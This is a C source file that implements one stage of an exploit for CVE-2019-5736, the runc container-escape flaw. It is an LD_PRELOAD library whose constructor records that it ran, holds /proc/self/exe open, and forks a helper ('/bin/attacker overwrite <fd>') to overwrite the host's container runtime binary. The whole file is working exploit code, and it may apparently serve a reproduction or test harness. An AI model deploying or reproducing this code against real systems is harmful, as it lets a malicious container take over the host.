/* SPDX-License-Identifier: Apache-2.0
 *
 * CVE-2019-5736, the second half: a library that a container's image makes the loader load (LD_PRELOAD) into the host's program, which an
 * entrypoint "#!/proc/self/exe" has just started inside the container. It keeps the program file open, lets the program end, and then
 * writes over it: /proc/self/fd/N opens the file anew.
 */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

/* It says that it ran at all by a file in the container. */
__attribute__((constructor)) static void loaded(void)
{
	char self[256];
	ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
	int fd, exe;

	if (n <= 0)
		return;
	self[n] = '\0';
	fd = open("/loaded", O_WRONLY | O_CREAT | O_TRUNC, 0644);
	dprintf(fd, "%s\n", self);
	close(fd);
	exe = open("/proc/self/exe", O_RDONLY);
	if (exe < 0)
		return;
	if (fork() == 0) {
		/* As long as this child runs the program it is busy: become another one, which takes the descriptor along. */
		char number[16];

		snprintf(number, sizeof number, "%d", exe);
		execl("/bin/attacker", "attacker", "overwrite", number, (char *)NULL);
		_exit(1);
	}
	_exit(0);
}
